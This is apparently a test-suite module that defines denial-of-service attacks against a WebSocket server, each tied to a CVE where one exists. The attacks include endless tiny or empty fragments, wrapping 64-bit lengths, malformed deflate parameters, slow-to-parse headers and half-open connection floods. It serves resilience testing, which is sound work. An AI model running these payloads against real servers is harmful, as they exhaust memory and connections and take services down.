'use strict';

// Attacks on a WebSocket server, those of test/attacks/server.js.

const { BINARY, CONTINUATION, HANDSHAKE, PING, PONG, framesFor } = require('../frames');

const KIB = 1024;

const { frame: masked } = framesFor('server');

/** @returns {Buffer} frames repeated until they fill about 64 KiB */
function block(...frames) {
  const bytes = Buffer.concat(frames);
  return Buffer.concat(Array(Math.ceil((64 * KIB) / bytes.length)).fill(bytes));
}

const BEGIN = masked(BINARY, 'x', { fin: false });
const TINY = masked(CONTINUATION, 'x', { fin: false });
const EMPTY = masked(CONTINUATION, '', { fin: false });

/** Lengths with the top bit, just below it, and around 2^53, 2^32 and 2^31. */
const LENGTHS = [
  2n ** 63n,
  2n ** 64n - 1n,
  2n ** 63n - 1n,
  2n ** 53n,
  2n ** 53n - 1n,
  2n ** 32n,
  2n ** 32n - 1n,
  2n ** 31n
];

/** Parameters that permessage-deflate does not have, or values that they can't have (RFC 7692). */
const EXTENSIONS = [
  'permessage-deflate; server_max_window_bits=1000',
  'permessage-deflate; client_max_window_bits=7',
  'permessage-deflate; server_max_window_bits=-1; server_max_window_bits=99',
  'permessage-deflate; __proto__=1; constructor',
  'permessage-deflate; server_no_context_takeover="',
  `permessage-deflate${'; a'.repeat(4000)}`
];

/** Values for which parsers of these headers took a time that grows by the square of the length. */
const SLOW_HEADERS = [
  `Sec-WebSocket-Protocol: b${' '.repeat(15_000)}x`,
  `Sec-WebSocket-Protocol: ${','.repeat(15_000)}`,
  `Sec-WebSocket-Extensions: a; b="${'\\c'.repeat(7500)}`,
  `Sec-WebSocket-Extensions: a${' '.repeat(15_000)}x`,
  `Upgrade: ,${' '.repeat(15_000)}x`
];

/**
 * @typedef {object} Attack
 * @property {string} name by which test/attacks/ has it
 * @property {string} title
 * @property {string} advisory
 * @property {(attacker: import('./attacker').Attacker, index: number) => Promise<void>} run what a
 *   connection does
 * @property {number} connections how many at once for test/system/attacks
 */
const attack = (name, title, advisory, run, connections = 10) => ({ name, title, advisory, run, connections });

/** Sends `begin(index)`, and repeats `bytes` without end. */
const floods = (begin, bytes) => async (attacker, index) => {
  const socket = await attacker.open();
  socket.setNoDelay(true);
  await attacker.send(socket, begin(index));
  await attacker.flood(socket, bytes);
};

/** Repeats `bytes` without end, and never reads. */
const floodsUnread = (bytes) => async (attacker) => {
  const socket = await attacker.open();
  socket.pause();
  await attacker.flood(socket, bytes);
};

/** Sends a handshake, `bytes`, and its end. */
const asks = (linesFor, bytes) => async (attacker, index) => {
  const socket = await attacker.open(linesFor(index));
  if (bytes) await attacker.send(socket, bytes);
  socket.end();
  await attacker.hold(socket);
};

const lengthOf = (index) => LENGTHS[index % LENGTHS.length];

/** @type {Attack[]} */
const ATTACKS = [
  attack(
    'tiny-fragments',
    'fragments of one byte without end',
    'CVE-2026-48779',
    floods(() => BEGIN, block(TINY))
  ),
  attack(
    'tiny-chunks',
    'a message in chunks of one byte',
    'CVE-2026-48779',
    floods(() => masked(BINARY, '', { length: 1024 * KIB }), Buffer.from('x'))
  ),
  attack(
    'unfinished-fragments',
    'messages of 16,384 fragments that are never finished',
    'CVE-2026-62389',
    async (attacker) => {
      const socket = await attacker.open();
      await attacker.send(socket, Buffer.concat([BEGIN, ...Array(16_383).fill(TINY)]));
      await attacker.hold(socket);
    },
    50
  ),
  attack(
    'empty-fragments',
    'empty fragments without end',
    'CVE-2026-12151, CVE-2026-9675',
    floods(() => masked(BINARY, '', { fin: false }), block(EMPTY))
  ),
  attack(
    'unread-pongs',
    'pings from a peer that never reads the pongs',
    'CVE-2026-109932, CVE-2026-11586',
    floodsUnread(block(masked(PING, 'x'.repeat(125))))
  ),
  attack(
    'late-limits',
    'messages far above the limit',
    'CVE-2016-10544, CVE-2026-1526',
    floods(() => masked(BINARY, '', { length: 2 ** 30 }), Buffer.alloc(64 * KIB))
  ),
  attack(
    'wrapping-lengths',
    '64-bit lengths that wrap',
    'CVE-2026-1528, CVE-2020-27813',
    floods(
      (index) => Buffer.concat([BEGIN, masked(CONTINUATION, '', { length: lengthOf(index), lengthSize: 8 })]),
      Buffer.alloc(64 * KIB)
    )
  ),
  attack(
    'extension-parameters',
    'invalid parameters of extensions',
    'CVE-2026-2229',
    asks(
      (index) => [...HANDSHAKE, `Sec-WebSocket-Extensions: ${EXTENSIONS[index % EXTENSIONS.length]}`],
      // Compressed, by the bit.
      masked(BINARY, 'x'.repeat(100), { rsv: 0x40 })
    )
  ),
  attack(
    'many-headers',
    'more headers than the server counts',
    'CVE-2024-37890',
    asks(() => [HANDSHAKE[0], ...Array(2300).fill('a:x'), ...HANDSHAKE.slice(1)])
  ),
  attack(
    'slow-headers',
    'Protocol and Extensions headers that are slow to parse',
    'CVE-2021-32640',
    asks((index) => [...HANDSHAKE, SLOW_HEADERS[index % SLOW_HEADERS.length]])
  ),
  attack(
    'slow-bytes',
    'messages of one byte a second',
    '',
    async (attacker) => {
      const socket = await attacker.open();
      socket.setNoDelay(true);
      const bytes = masked(BINARY, 'x'.repeat(1000));
      for (let i = 0; i < Math.min(bytes.length, attacker.bytes) && socket.writable; i++) {
        socket.write(bytes.subarray(i, i + 1));
        await attacker.sleep(attacker.interval);
      }
      if (!attacker.stopped) await attacker.hold(socket);
    },
    500
  ),
  attack(
    'unread-echoes',
    'a client that never reads its echoes',
    '',
    floodsUnread(masked(BINARY, Buffer.alloc(512 * KIB)))
  ),
  attack(
    'half-open-connections',
    '1,000 connections that say nothing, half a handshake, or nothing after it',
    '',
    async (attacker, index) => {
      const socket = await (index % 3 === 0 ? attacker.open() : attacker.connect());
      if (index % 3 === 1) await attacker.send(socket, HANDSHAKE.slice(0, 3).join('\r\n'));
      await attacker.hold(socket);
    },
    1000
  ),
  attack(
    'interleaved-control-frames',
    'control frames between every fragment',
    '',
    floods(() => BEGIN, block(TINY, masked(PING, 'x'), masked(PONG, 'x'), masked(PING, '')))
  )
];

/** @returns {Attack} */
function attackNamed(name) {
  const attack = ATTACKS.find((one) => one.name === name);
  if (attack === undefined) throw new RangeError(`There is no attack ${name}`);
  return attack;
}

module.exports = { ATTACKS, EXTENSIONS, LENGTHS, SLOW_HEADERS, attackNamed };
